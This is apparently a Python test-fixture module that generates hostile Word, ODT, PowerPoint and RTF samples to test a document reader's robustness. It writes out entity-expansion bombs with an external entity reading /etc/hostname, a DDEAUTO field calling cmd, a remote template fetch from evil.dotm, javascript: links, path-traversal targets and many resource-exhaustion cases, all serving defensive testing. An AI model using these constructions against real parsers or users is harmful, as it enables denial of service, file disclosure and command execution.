"""Hostile office files: XML that swells or hides its depth, relations that lead out, RTF that never ends."""

from __future__ import annotations

from endurance.hostile_making import SENTENCE, Sample, bytes_of, docx, of, packed
from readers_office_samples import flat_odt, odt, pptx, shape

__all__ = ["OFFICES"]

_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY f SYSTEM "file:///etc/hostname">]>'
)


def _linked(target: str, kind: str = "hyperlink") -> str:
    """Return a relation that leads out."""
    return f'<Relationship Id="rOut" Type="{_KIND}/{kind}" TargetMode="External" Target="{target}"/>'


def _word(body: str, **more: str | bytes) -> bytes:
    """Return a Word document of a sentence and what is hostile in it."""
    return docx(_P + body, **more)  # type: ignore[arg-type]


def _hidden_depth(name: str, count: int) -> str:
    """Return elements whose attributes make them look closed to who only counts brackets."""
    return f'<{name} a="/>">' * count + "words" + f"</{name}>" * count


def _notes(count: int) -> bytes:
    """Return a Word document of very many notes that call one another."""
    marks = "".join(f'<w:p><w:r><w:footnoteReference w:id="{n}"/></w:r></w:p>' for n in range(count))
    notes = "".join(
        f'<w:footnote w:id="{n}"><w:p><w:r><w:t>a</w:t><w:footnoteReference w:id="{(n + 1) % count}"/></w:r></w:p></w:footnote>'  # noqa: E501
        for n in range(count)
    )
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    relation = f'<Relationship Id="rN" Type="{_KIND}/footnotes" Target="footnotes.xml"/>'
    return docx(_P + marks, relation, word__footnotes=f"<w:footnotes {names}>{notes}</w:footnotes>")


def _looped_styles() -> bytes:
    """Return a Word document whose styles are based on one another in a ring."""
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>'  # noqa: E501
        for n in range(50)
    )
    relation = f'<Relationship Id="rS" Type="{_KIND}/styles" Target="styles.xml"/>'
    body = '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr><w:r><w:t>words of it</w:t></w:r></w:p>'
    return docx(_P + body, relation, word__styles=f"<w:styles {names}>{ring}</w:styles>")


def _rtf(body: bytes, head: bytes = b"") -> bytes:
    """Return an RTF file."""
    return b"{\\rtf1\\ansi\\ansicpg1252" + head + b" " + SENTENCE.encode() + b"\\par\n" + body + b"}"


def _odt_list(depth: int) -> str:
    """Return lists in lists."""
    return "<text:list><text:list-item>" * depth + "<text:p>words</text:p>" + "</text:list-item></text:list>" * depth


def _groups(depth: int, inner: str) -> str:
    """Return shapes in shapes: none of a real program, each of which holds all the words of the others."""
    opened = "<p:sp><p:nvSpPr/><p:txBody><a:p><a:r><a:t>a</a:t></a:r></a:p></p:txBody>"
    return opened * depth + inner + "</p:sp>" * depth


WORDS: tuple[Sample, ...] = (
    of("laughs.docx", lambda: docx(_P + "&c;", head=f'<?xml version="1.0"?>{_LAUGHS}'), "out", "entities"),
    of(
        "laughs-in-sixteen-bits.docx",
        lambda: docx(_P, more__x=f"<?xml version='1.0' encoding='UTF-16'?>{_LAUGHS}<a>&c;</a>".encode("utf-16")),
        "out",
    ),
    of(
        "laughs-on-a-mainframe.docx",
        lambda: docx(
            _P, docProps__core=f"<?xml version='1.0' encoding='cp037'?>{_LAUGHS}<a>&c;&f;</a>".encode("cp037")
        ),
        "",
    ),
    of("nested.docx", lambda: _word("<w:tbl><w:tr><w:tc>" * 2_000), "out", "nested"),
    of("hidden-depth.docx", lambda: _word(_hidden_depth("w:sdt", 20_000)), ""),
    of(
        "hidden-depth-of-content.docx",
        lambda: _word('<w:sdt a="/>"><w:sdtContent a="/>">' * 3_000 + _P + "</w:sdtContent></w:sdt>" * 3_000),
        "",
    ),
    of("sixty-megabytes.docx", lambda: _word(" " * 60_000_000), "out"),
    of("many-runs.docx", lambda: _word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 120_000 + "</w:p>"), ""),
    of("many-paragraphs.docx", lambda: _word("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 100_000), ""),
    of("many-cells.docx", lambda: _word("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 100_000 + "</w:tr></w:tbl>"), ""),
    of(
        "wide-spans.docx",
        lambda: _word(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        ),
        "",
    ),
    of("notes-of-notes.docx", lambda: _notes(3_000), ""),
    of("styles-in-a-ring.docx", _looped_styles, ""),
    of(
        "links-out.docx",
        lambda: docx(
            _P + '<w:p><w:hyperlink r:id="rOut"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>',
            _linked("javascript:alert(1)"),
        ),
        "in",
    ),
    of(
        "pictures-out.docx",
        lambda: docx(
            _P + '<w:p><w:r><w:drawing><a:blip r:link="rOut"/></w:drawing></w:r></w:p>',
            _linked("file:///etc/hostname", "image"),
        ),
        "in",
    ),
    of("template-out.docx", lambda: docx(_P, _linked("http://e.org/evil.dotm", "attachedTemplate")), "in"),
    of(
        "text-elsewhere.docx",
        lambda: docx(_P + '<w:altChunk r:id="rOut"/>', _linked("../../../../etc/hostname", "aFChunk")),
        "",
    ),
    of("not-a-document.docx", lambda: packed([("word/document.xml", b"<a/>" * 3)]), "out"),
    of(
        "field-codes.docx",
        lambda: _word(
            '<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd "/k" INCLUDETEXT "/etc/hostname" </w:instrText></w:r></w:p>'
            * 500
        ),
        "in",
    ),
)

OPEN: tuple[Sample, ...] = (
    of(
        "laughs.odt",
        lambda: packed(
            [
                ("mimetype", b"application/vnd.oasis.opendocument.text"),
                ("content.xml", bytes_of(f"<?xml version='1.0'?>{_LAUGHS}<a>&c;</a>")),
            ]
        ),
        "out",
    ),
    of(
        "nested.odt",
        lambda: odt("<text:section>" * 5_000 + "<text:p>words</text:p>" + "</text:section>" * 5_000),
        "out",
        "nested",
    ),
    of("hidden-depth.odt", lambda: odt(_hidden_depth("text:section", 20_000)), "out"),
    of(
        "spans-in-spans.odt",
        lambda: odt("<text:p>" + "<text:span>" * 245 + SENTENCE + "</text:span>" * 245 + "</text:p>"),
        "",
    ),
    of("lists-in-lists.odt", lambda: odt(_odt_list(120)), ""),
    of(
        "tables-in-tables.odt",
        lambda: odt(
            "<table:table><table:table-row><table:table-cell>" * 80
            + "<text:p>words</text:p>" * 2_000
            + "</table:table-cell></table:table-row></table:table>" * 80
        ),
        "",
    ),
    of(
        "frames-in-frames.odt",
        lambda: odt(
            "<text:p><draw:frame><draw:text-box>" * 80
            + "<text:p>words</text:p>" * 2_000
            + "</draw:text-box></draw:frame></text:p>" * 80
        ),
        "in",
    ),
    of("many-spaces.odt", lambda: odt("<text:p>a" + '<text:s text:c="999999999"/>b' * 200_000 + "</text:p>"), ""),
    of(
        "repeated-cells.odt",
        lambda: odt(
            '<table:table><table:table-row table:number-rows-repeated="99999999"><table:table-cell table:number-columns-repeated="99999999"><text:p>words</text:p></table:table-cell></table:table-row></table:table>'  # noqa: E501
        ),
        "",
    ),
    of(
        "styles-in-a-ring.odt",
        lambda: odt(
            f'<text:p text:style-name="a">{SENTENCE}</text:p>',
            '<style:style style:name="a" style:parent-style-name="b"/><style:style style:name="b" style:parent-style-name="a"/>',  # noqa: E501
        ),
        "in",
    ),
    of(
        "notes-in-notes.odt",
        lambda: odt(
            "<text:p>"
            + "<text:note><text:note-citation>1</text:note-citation><text:note-body><text:p>a" * 60
            + "</text:p></text:note-body></text:note>" * 60
            + SENTENCE
            + "</text:p>"
        ),
        "",
    ),
    of("flat-and-long.fodt", lambda: flat_odt(f"<text:p>{SENTENCE}</text:p>" * 30_000), "", family="odt"),
    of(
        "nested.pptx",
        lambda: pptx([("<p:grpSp>" * 3_000 + shape("words") + "</p:grpSp>" * 3_000, "", "")]),
        "out",
        "nested",
    ),
    of("hidden-depth.pptx", lambda: pptx([(_hidden_depth("p:grpSp", 20_000), "", "")]), "out"),
    of("shapes-in-shapes.pptx", lambda: pptx([(_groups(240, shape("words of the ward " * 20_000)), "", "")]), ""),
    of("one-slide-five-thousand-times.pptx", lambda: pptx([(shape(SENTENCE * 2_000), "", "")], order=[1] * 5_000), ""),
    of(
        "notes-of-themselves.pptx",
        lambda: pptx([(shape(SENTENCE), "notes", "file:///etc/hostname")] * 50).replace(b"n1.xml", b"n2.xml"),
        "",
    ),
    of(
        "many-cells.pptx",
        lambda: pptx(
            [
                (
                    "<p:graphicFrame><a:tbl>"
                    + ("<a:tr>" + "<a:tc><a:p><a:r><a:t>a</a:t></a:r></a:p></a:tc>" * 300 + "</a:tr>") * 300
                    + "</a:tbl></p:graphicFrame>",
                    "",
                    "",
                )
            ]
        ),
        "",
    ),
    of(
        "parts-that-climb.pptx",
        lambda: pptx([(shape(SENTENCE), "", "")], order=[1]).replace(b"slides/slide1.xml", b"../../../../a.xml"),
        "",
    ),
)

RICH: tuple[Sample, ...] = (
    of("groups-in-groups.rtf", lambda: _rtf(b"{" * 200_000), "out", "nested"),
    of("groups-beside-groups.rtf", lambda: _rtf(b"{\\b a}" * 200_000), ""),
    of("three-hundred-thousand-words.rtf", lambda: _rtf(b"\\b\\i0\\fs24 a" * 100_000), ""),
    of("millions-of-words.rtf", lambda: _rtf(b"\\pard\\plain\\f1 " * 1_000_000), ""),
    of("signs-one-by-one.rtf", lambda: _rtf(b"\\'c4\\'e3" * 400_000, b"{\\fonttbl{\\f0\\fcharset134 a;}}"), ""),
    of("numbered-signs.rtf", lambda: _rtf(b"\\u-10179 ?\\u-8704 ?" * 150_000), ""),
    of("binary-without-end.rtf", lambda: _rtf(b"\\bin9999999999 abc"), ""),
    of("picture-of-letters.rtf", lambda: _rtf(b"{\\pict\\pngblip " + b"ff" * 10_000_000 + b"}"), "in"),
    of(
        "object-inside.rtf",
        lambda: _rtf(b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + b"0105" * 10_000 + b"}}"),
        "in",
    ),
    of(
        "fields-that-fetch.rtf",
        lambda: _rtf(
            b'{\\field{\\*\\fldinst INCLUDEPICTURE "file:///etc/hostname"}{\\fldrslt x}}{\\field{\\*\\fldinst HYPERLINK "javascript:a"}{\\fldrslt y}}'  # noqa: E501
            * 500
        ),
        "in",
    ),
    of(
        "many-fonts.rtf",
        lambda: _rtf(
            b"\\f9 a",
            b"{\\fonttbl" + b"".join(b"{\\f%d\\fcharset%d n%d;}" % (n, n % 256, n) for n in range(50_000)) + b"}",
        ),
        "",
    ),
    of("many-cells.rtf", lambda: _rtf(b"\\trowd\\intbl " + b"a\\cell " * 150_000 + b"\\row"), ""),
    of("many-notes.rtf", lambda: _rtf(b"a{\\super 1}{\\footnote n}" * 30_000), ""),
    of("paragraphs.rtf", lambda: _rtf(b"a\\par" * 200_000), ""),
    of("never-closed-skip.rtf", lambda: _rtf(b"{\\*\\a" * 100_000), ""),
    of("both-forms-in-both-forms.rtf", lambda: _rtf(b"{\\upr{a}{\\*\\ud{" * 1_000), ""),
    of("code-page-of-no-kind.rtf", lambda: b"{\\rtf1\\ansicpg99999 " + bytes_of(SENTENCE) * 10 + b"\\'ff}", ""),
    of("only-a-head.rtf", b"{\\rtf1", "out"),
)
OFFICES: tuple[Sample, ...] = (*WORDS, *OPEN, *RICH)
